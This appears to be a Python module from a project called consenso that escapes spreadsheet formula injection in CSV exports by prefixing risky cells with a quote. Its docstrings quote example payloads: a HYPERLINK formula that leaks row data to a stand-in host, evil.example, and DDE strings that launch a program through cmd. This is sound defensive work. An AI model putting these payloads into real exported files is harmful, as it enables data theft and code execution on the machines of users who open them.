"""Spreadsheet-safe CSV cells: the rule that keeps an exported cell from running as a formula.

A CSV file is data, but Excel, LibreOffice Calc and Google Sheets read a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula ("CSV injection", "formula injection"): ``=HYPERLINK("https://evil.example/?"&A1,
"click")`` leaks the row to whoever wrote the task, ``=cmd|' /C calc'!A0`` asks to run a program through DDE.
Quoting the field does not help: the spreadsheet strips the quotes first. OWASP's advice
(https://owasp.org/www-community/attacks/CSV_Injection) is to prefix such a cell with a single quote ``'``,
which every one of them reads as "this cell is text"; the value then shows with the quote, visible, so
nobody mistakes the neutralised cell for the original.

The rule (``neutralise``): a cell gets the quote when

- its first character is ``=``, ``+``, ``-`` or ``@``;
- its first character is a control character (Unicode category Cc, which holds tab, carriage return and
  line feed, or Cf, the invisible format characters such as U+200B or U+FEFF): a spreadsheet may drop it
  and read what follows, and nothing legitimate starts with one;
- it is a formula once leading whitespace and control characters are dropped (``"  =cmd"``, ``"\\t=cmd"``):
  some importers trim cells before they parse them.

Any other cell is left exactly as it is (Spanish text, accents and ``ñ`` included). The rule cannot tell a
negative number from a formula that starts with ``-`` (``-2+3+cmd|' /C calc'!A0``), so a value ``"-5"`` that
came from the task's data is prefixed too: a cell is neutralised by where it came from (untrusted input),
not by what it looks like. Only the numbers the exporter writes itself (ids, counts, confidences) are written
as they are, without going through this rule.

Pure: no I/O, no settings; ``consenso.services.export`` applies it to every untrusted cell of a CSV export.
"""

from __future__ import annotations

import unicodedata
from typing import Final

FORMULA_STARTS: Final = frozenset("=+-@")
QUOTE: Final = "'"
_CONTROL_CATEGORIES: Final = frozenset({"Cc", "Cf"})


def _is_control(char: str) -> bool:
    return unicodedata.category(char) in _CONTROL_CATEGORIES


def is_dangerous(cell: str) -> bool:
    """True when a spreadsheet could read ``cell`` as a formula (see the module doc for the rule).

    >>> [is_dangerous(c) for c in ("=1+1", "-5", "@SUM(A1)", "\\t=1", "  =cmd", "hola", "", "a=b")]
    [True, True, True, True, True, False, False, False]
    """
    if not cell:
        return False
    first = cell[0]
    if first in FORMULA_STARTS or _is_control(first):
        return True
    for char in cell:
        if char.isspace() or _is_control(char):
            continue
        return char in FORMULA_STARTS
    return False


def neutralise(cell: str) -> str:
    """``cell`` with a leading ``'`` when a spreadsheet could read it as a formula; otherwise unchanged.

    >>> neutralise("=HYPERLINK(\\"https://evil.example\\")")
    '\\'=HYPERLINK("https://evil.example")'
    >>> neutralise("Me gustó mucho, señora")
    'Me gustó mucho, señora'
    """
    return QUOTE + cell if is_dangerous(cell) else cell
